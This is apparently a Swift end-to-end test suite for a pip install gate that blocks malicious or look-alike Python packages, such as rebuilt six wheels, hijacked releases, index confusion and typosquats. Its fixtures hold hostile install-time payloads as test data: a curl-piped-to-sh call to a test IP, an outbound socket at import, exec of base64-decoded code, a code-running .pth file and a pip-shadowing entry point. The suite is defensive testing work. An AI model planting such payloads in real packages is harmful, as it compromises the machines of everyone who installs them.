import AlterCLI
import AlterKit
import AlterTestSupport
import Foundation
import ShimCore
import Testing

/// The decisive signals through the whole gate, as an attacker would try them (issue #18): a loopback PyPI
/// answering with the real recorded `six` document, a find-links index serving rebuilt wheels of six 1.17.0 (same
/// name, version and metadata as on PyPI), the real engine wiring, real pip, a real venv. Nothing of them may end up
/// in the target, and the payloads must not have run.
@Suite struct GateSignalsEndToEndTests {
    typealias World = GateEngineEndToEndTests.World

    func world(_ label: String, pip: TestPip) async throws -> World {
        let testbed = try await GateTestbed.make(label, pip: pip)
        let pypi = try PyPIDouble()
        try pypi.serveRecorded("six")
        try pypi.serveRecorded("attrs")
        return World(testbed: testbed, osv: try OSVDouble(records: []), pypi: pypi)
    }

    /// A project document for `name` with one release per (version, upload) whose wheel has `sha256`, owned by
    /// `owners` (and `organization`).
    static func projectJSON(
        _ name: String, releases: [(version: String, uploaded: Date, sha256: String)], owners: [String],
        organization: String? = nil
    ) -> String {
        let iso = ISO8601DateFormatter()
        let files = releases.map { r in
            """
            "\(r.version)": [{"filename": "\(name)-\(r.version)-py3-none-any.whl", "packagetype": "bdist_wheel",
              "upload_time_iso_8601": "\(iso.string(from: r.uploaded))", "yanked": false,
              "digests": {"sha256": "\(r.sha256)"}, "size": 1000,
              "url": "https://files.pythonhosted.org/\(name)-\(r.version)-py3-none-any.whl"}]
            """
        }.joined(separator: ",")
        let roles = owners.map { "{\"role\": \"Owner\", \"user\": \"\($0)\"}" }.joined(separator: ",")
        let org = organization.map { "\"\($0)\"" } ?? "null"
        return """
            {"info": {"name": "\(name)", "version": "\(releases.last!.version)", "summary": "A helpful package",
              "description": "Long description of the project, with usage and examples.",
              "home_page": "https://example.org/\(name)", "project_urls": {"Source": "https://example.org/src"},
              "classifiers": ["License :: OSI Approved :: MIT License"], "license": "MIT",
              "author": "A. Person", "author_email": "a@example.org"},
             "last_serial": 1, "releases": {\(files)}, "urls": [], "vulnerabilities": [],
             "ownership": {"organization": \(org), "roles": [\(roles)]}}
            """
    }

    /// Rebuilt six 1.17.0 wheels, each with one thing that runs without being called.
    static func payloads(marker: String) -> [(label: String, files: [String: String], evidence: String)] {
        [
            (
                "exec of base64-decoded data at import",
                ["six_compat.py": "import base64\nexec(base64.b64decode('b3BlbignXCciICsgIid4Jw=='))\n"], "code:"
            ),
            (
                "a socket opened at import",
                ["six_compat.py": "import socket\nsocket.create_connection(('203.0.113.9', 443))\n"], "code:"
            ),
            (
                "curl piped to sh at import",
                ["six_compat.py": "import os\nos.system('curl -s https://203.0.113.9/x | sh')\n"], "code:"
            ),
            (
                "a .pth that writes a file at every start",
                ["six_init.pth": "import os; open('\(marker)', 'w').write('ran')\n"], "code:"
            ),
            (
                "a console script named pip",
                ["six-1.17.0.dist-info/entry_points.txt": "[console_scripts]\npip = six:main\n"],
                "entry_point_shadow:"
            ),
        ]
    }

    @Test(arguments: TestPip.all, 0..<5) func rebuiltSixWithCodeThatRunsUncalledIsNotInstalled(
        _ pip: TestPip, _ index: Int
    ) async throws {
        let world = try await world("e2e-signal-code-\(index)", pip: pip)
        defer { world.stop() }
        let marker = world.testbed.root.appendingPathComponent("payload-ran").path
        let payload = Self.payloads(marker: marker)[index]
        let pipBefore = try String(contentsOf: world.testbed.venv.appendingPathComponent("bin/pip"), encoding: .utf8)
        try world.testbed.wheels.wheel(name: "six", version: "1.17.0", extraFiles: payload.files)
        let err = BufferStream()
        let code = try await world.gate(["six==1.17.0"], err: err)
        #expect(code != 0, "\(payload.label)\n\(err.text)\n\(world.testbed.logText)")
        #expect(try world.testbed.installed() == [:], "\(payload.label)\n\(err.text)")
        // The signal itself is named (besides the file PyPI never published).
        #expect(err.text.contains(payload.evidence), "\(payload.label)\n\(err.text)")
        #expect(err.text.contains("artifact_hash:"), "\(payload.label)\n\(err.text)")
        #expect(!FileManager.default.fileExists(atPath: marker), "\(payload.label): the payload ran")
        // The venv's pip is still pip's own launcher, byte for byte.
        let pipAfter = try String(contentsOf: world.testbed.venv.appendingPathComponent("bin/pip"), encoding: .utf8)
        #expect(pipAfter == pipBefore)
        #expect(PipLauncher.isStandard(pipAfter))
    }

    /// The same payloads in a release PyPI itself serves (a hijacked account: the hash matches PyPI's): the code
    /// signal alone holds it.
    @Test(arguments: TestPip.all) func aHijackedReleaseWithImportTimeCodeIsQuarantinedByTheCodeSignalAlone(
        _ pip: TestPip
    ) async throws {
        let world = try await world("e2e-signal-hijack", pip: pip)
        defer { world.stop() }
        let wheel = try world.testbed.wheels.wheel(
            name: "quietcharts", version: "2.0", extraFiles: Self.payloads(marker: "/nonexistent")[2].files)
        let old = Date().addingTimeInterval(-900 * 86400)
        world.pypi.setProject(
            "quietcharts",
            .json(
                Self.projectJSON(
                    "quietcharts",
                    releases: (0..<6).map { ("1.\($0)", old.addingTimeInterval(Double($0) * 90 * 86400), "") }
                        + [("2.0", Date().addingTimeInterval(-20 * 86400), try WheelBuilder.sha256(of: wheel))],
                    owners: ["alice", "bob"])))
        let err = BufferStream()
        let code = try await world.gate(["quietcharts"], err: err)
        #expect(code == ExitStatus.findings.rawValue, "\(err.text)\n\(world.testbed.logText)")
        #expect(err.text.contains("QUARANTINED quietcharts 2.0"), "\(err.text)")
        #expect(err.text.contains("code:"), "\(err.text)")
        #expect(!err.text.contains("artifact_hash:"), "\(err.text)")
        #expect(try world.testbed.installed() == [:])
    }

    @Test(arguments: TestPip.all) func aVersionPyPINeverHadFromAnotherIndexIsBlocked(_ pip: TestPip) async throws {
        let world = try await world("e2e-signal-confusion", pip: pip)
        defer { world.stop() }
        try world.testbed.wheels.wheel(name: "six", version: "99.0.0")
        let err = BufferStream()
        let code = try await world.gate(["six"], err: err)
        #expect(code != 0, "\(err.text)\n\(world.testbed.logText)")
        #expect(err.text.contains("BLOCKED six 99.0.0"), "\(err.text)")
        #expect(err.text.contains("index_confusion:"), "\(err.text)")
        #expect(try world.testbed.installed() == [:])
    }

    @Test(arguments: TestPip.all) func aRebuiltFileWhoseHashIsNotPyPIsIsBlocked(_ pip: TestPip) async throws {
        let world = try await world("e2e-signal-hash", pip: pip)
        defer { world.stop() }
        try world.testbed.wheels.wheel(name: "six", version: "1.17.0")
        let err = BufferStream()
        let code = try await world.gate(["six==1.17.0"], err: err)
        #expect(code != 0, "\(err.text)\n\(world.testbed.logText)")
        #expect(err.text.contains("BLOCKED six 1.17.0"), "\(err.text)")
        #expect(err.text.contains("is not what PyPI published"), "\(err.text)")
        #expect(try world.testbed.installed() == [:])
    }

    /// One edit from attrs, young, one unrelated owner: held, whatever the soft composite says.
    @Test(arguments: TestPip.all) func anAtrsShapedSquatIsHeld(_ pip: TestPip) async throws {
        let world = try await world("e2e-signal-atrs", pip: pip)
        defer { world.stop() }
        let wheel = try world.testbed.wheels.wheel(name: "atrs", version: "0.3")
        world.pypi.setProject(
            "atrs",
            .json(
                Self.projectJSON(
                    "atrs",
                    releases: [("0.3", Date().addingTimeInterval(-40 * 86400), try WheelBuilder.sha256(of: wheel))],
                    owners: ["mallory"])))
        let err = BufferStream()
        let code = try await world.gate(["atrs"], err: err)
        #expect(code == ExitStatus.findings.rawValue, "\(err.text)\n\(world.testbed.logText)")
        #expect(err.text.contains("QUARANTINED atrs 0.3"), "\(err.text)")
        #expect(err.text.contains("typosquat:"), "\(err.text)")
        #expect(try world.testbed.installed() == [:])
    }

    /// The same name published by the target's own organization is its family, not a squat.
    @Test(arguments: TestPip.all) func aLookAlikeOwnedByTheTargetsOrganizationIsInstalled(_ pip: TestPip) async throws {
        let world = try await world("e2e-signal-family", pip: pip)
        defer { world.stop() }
        let wheel = try world.testbed.wheels.wheel(name: "atrs", version: "0.3")
        world.pypi.setProject(
            "atrs",
            .json(
                Self.projectJSON(
                    "atrs",
                    releases: [("0.3", Date().addingTimeInterval(-40 * 86400), try WheelBuilder.sha256(of: wheel))],
                    owners: ["hynek"], organization: "attrs")))
        let err = BufferStream()
        let code = try await world.gate(["atrs"], err: err)
        #expect(code == 0, "\(err.text)\n\(world.testbed.logText)")
        #expect(try world.testbed.installed() == ["atrs": "0.3"])
    }
}
